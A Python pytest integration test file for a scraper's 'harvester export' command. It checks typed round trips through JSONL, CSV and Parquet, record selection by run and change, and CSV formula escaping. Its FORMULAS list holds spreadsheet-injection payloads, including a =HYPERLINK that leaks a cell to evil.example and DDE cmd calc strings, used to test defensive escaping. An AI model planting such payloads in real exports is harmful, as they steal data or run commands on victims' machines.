"""`harvester export`: each format round-trips the records with their types, streams with a
progress count, and selects by run, by time and by change."""

from __future__ import annotations

import io
import subprocess
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
import yaml
from bson.decimal128 import Decimal128
from harvester.config.model import SourceConfig
from harvester.storage.data_handler import DataHandler
from harvester.storage.exports import (
    ExportQuery,
    export_query,
    export_records,
    field_types,
    read_csv,
    read_jsonl,
    read_parquet,
)
from harvester.storage.runs import RunStore

from tests.fixtures.servers import VENV_BIN

pytestmark = [pytest.mark.integration]

DOCUMENT = {
    "name": "export_shop",
    "input": {"seeds": ["http://127.0.0.1:9/p/1"]},
    "attributes": {
        "title": {"css": "h1"}, "stock": {"css": ".stock", "type": "int"}, "weight": {"css": ".w", "type": "float"},
        "in_stock": {"css": ".s", "type": "bool"}, "released": {"css": "time", "type": "date"},
        "updated": {"css": ".u", "type": "datetime"}, "image": {"css": "img::attr(src)", "type": "url"},
        "price": {"css": ".price", "type": "price"}, "tags": {"css": "li", "type": "list[str]"},
        "ratings": {"css": ".r", "type": "list[int]"}, "sale": {"css": ".sale", "type": "present"},
    },
}


def record(number: int) -> dict:
    return {
        "url": f"http://127.0.0.1:9/p/{number}", "title": f"Widget, \"{number}\"\nsecond line" if number else None,
        "stock": 2**62 + number, "weight": 0.1 + number, "in_stock": number % 2 == 0,
        "released": datetime(2024, 3, number % 28 + 1, tzinfo=UTC),
        "updated": datetime(2024, 3, 5, 10, 30, number % 60, 123000, tzinfo=UTC),
        "image": f"http://127.0.0.1:9/img/{number}.png",
        "price": {"amount": Decimal(f"{1000 + number}.99"), "currency": "EUR"},
        "tags": ["a", "b,c"] if number % 3 else [], "ratings": [1, 5], "sale": number % 5 == 0,
    }


@pytest.fixture
def stored(configure_settings, mongo_server):
    settings = configure_settings()
    (settings.sources_dir / "export_shop.yaml").write_text(yaml.safe_dump(DOCUMENT))
    source = SourceConfig.model_validate(DOCUMENT)
    data = DataHandler(settings)
    data.collection(source).drop()
    first = datetime(2026, 12, 1, 8, 0, tzinfo=UTC)
    runs = RunStore(mongo_server.client()[settings.mongo_database])
    runs.collection.delete_many({"source": source.name})
    runs.start(source.name, "run-1", first)
    data.write(source, [record(number) for number in range(25)], "run-1", first)
    runs.start(source.name, "run-2", first + timedelta(hours=1))
    changed = [record(number) for number in range(20)]
    changed[3]["stock"] = 7  # one record changes in the second run, the others are the same
    data.write(source, changed, "run-2", first + timedelta(hours=1))
    return settings, source, data.collection(source)


def comparable(value):
    """What a round trip must give back: the stored value's type and value."""
    if isinstance(value, Decimal128):
        return value.to_decimal()
    if isinstance(value, int) and not isinstance(value, bool):
        return int(value)  # pymongo reads integers past 2**31 as Int64, a subclass of int
    if isinstance(value, dict):
        return {key: comparable(item) for key, item in value.items()}
    if isinstance(value, list):
        return [comparable(item) for item in value]
    return value


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_each_format_round_trips_the_records_with_their_types(stored, fmt, tmp_path) -> None:
    _settings, source, collection = stored
    path = tmp_path / f"out.{fmt}"
    seen: list[int] = []
    with open(path, "wb") as out:
        written = export_records(source, collection, fmt, out, ExportQuery(), seen.append)
    assert written == 25 and seen[-1] == 25
    read = {"jsonl": read_jsonl, "csv": lambda file: read_csv(source, file), "parquet": read_parquet}[fmt]
    back = {item["url"]: item for item in read(path)}
    assert len(back) == 25
    for document in collection.find({}, {"_id": 0, "_http": 0}):
        again = back[document["url"]]
        for name in field_types(source):
            want, got = comparable(document.get(name)), comparable(again.get(name))
            assert got == want and type(got) is type(want), (fmt, name, want, got)
    assert back["http://127.0.0.1:9/p/3"]["stock"] == 7


def test_selection_by_run_time_and_change(stored, mongo_server) -> None:
    settings, source, collection = stored
    runs_database = mongo_server.client()[settings.mongo_database]

    def count(query: ExportQuery) -> int:
        return export_records(source, collection, "jsonl", io.BytesIO(), query)

    assert count(export_query(runs_database, source, run_id="run-1")) == 5  # 20 of 25 were harvested again
    assert count(export_query(runs_database, source, run_id="run-2")) == 20
    assert count(export_query(runs_database, source, run_id="run-2", changed_only=True)) == 1
    assert count(export_query(runs_database, source, changed_only=True)) == 1  # the latest run's changes
    assert count(export_query(runs_database, source, since=datetime(2026, 12, 1, 8, 30, tzinfo=UTC))) == 20


def test_harvester_export_writes_the_file_named_by_its_suffix(stored, tmp_path) -> None:
    _settings, source, _collection = stored
    target = tmp_path / "shop.parquet"
    done = subprocess.run([str(VENV_BIN / "harvester"), "export", source.name, "--run", "run-2", "--changed-only",
                           "-o", str(target)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "1 record(s) of export_shop written" in done.stdout
    assert [row["stock"] for row in read_parquet(target)] == [7]
    refused = subprocess.run([str(VENV_BIN / "harvester"), "export", source.name, "-o", str(tmp_path / "x.xml")],
                             capture_output=True, text=True, timeout=120)
    assert refused.returncode == 2 and "--format jsonl|csv|parquet" in refused.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted", "a plain title"]


@pytest.fixture
def formulas(configure_settings, mongo_server):
    settings = configure_settings()
    (settings.sources_dir / "export_shop.yaml").write_text(yaml.safe_dump(DOCUMENT))
    source = SourceConfig.model_validate(DOCUMENT)
    data = DataHandler(settings)
    data.collection(source).drop()
    rows = []
    for number, title in enumerate(FORMULAS):
        row = record(number + 1)
        row.update(title=title, stock=-5 - number, tags=[title])
        rows.append(row)
    data.write(source, rows, "run-1", datetime(2026, 12, 1, 8, 0, tzinfo=UTC))
    return source, data.collection(source)


def csv_cells(path, column: str) -> list[str]:
    import csv

    with open(path, encoding="utf-8", newline="") as handle:
        return [row[column] for row in csv.DictReader(handle)]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped_and_read_back_exactly(formulas, tmp_path) -> None:
    """A harvested title like =HYPERLINK(...) or +cmd|... was written as it came, and a spreadsheet opening the
    export ran it; each gets a ' first (OWASP), numbers stay numbers, and read_csv gives back what was stored."""
    source, collection = formulas
    path = tmp_path / "out.csv"
    with open(path, "wb") as out:
        assert export_records(source, collection, "csv", out) == len(FORMULAS)
    titles = csv_cells(path, "title")
    assert titles == [f"'{title}" for title in FORMULAS[:-1]] + ["a plain title"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in titles)
    assert csv_cells(path, "stock")[0] == "-5"  # a number is never a formula
    back = {row["url"]: row for row in read_csv(source, path)}
    for document in collection.find():
        assert back[document["url"]]["title"] == document["title"]
        assert back[document["url"]]["tags"] == document["tags"]  # JSON lists begin with [: never a formula


def test_csv_formulas_can_be_kept_raw_by_the_command(formulas, tmp_path) -> None:
    source, _collection = formulas
    target = tmp_path / "raw.csv"
    done = subprocess.run([str(VENV_BIN / "harvester"), "export", source.name, "--csv-raw-formulas", "-o",
                           str(target)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert sorted(csv_cells(target, "title")) == sorted(FORMULAS)
    assert [row["title"] for row in read_csv(source, target, escaped_formulas=False)] == FORMULAS


def test_parquet_row_groups_are_flushed_by_bytes_as_well_as_by_records(stored, monkeypatch, tmp_path) -> None:
    """600 records of 0.4 MB were held in one 10,000-record row group (811 MB); a row group now also ends
    at ROW_GROUP_BYTES of values (here made 1 MB, so 25 records of 0.3 MB need several)."""
    import pyarrow.parquet as pq
    from harvester.storage import exports

    _settings, source, collection = stored
    collection.update_many({}, {"$set": {"title": "x" * 300_000}})
    monkeypatch.setattr(exports, "ROW_GROUP_BYTES", 1_000_000)
    path = tmp_path / "big.parquet"
    with open(path, "wb") as out:
        assert export_records(source, collection, "parquet", out) == 25
    groups = pq.ParquetFile(path).metadata.num_row_groups
    assert groups >= 7, groups  # 4 records (1.2 MB) at most per group
    assert len(read_parquet(path)) == 25
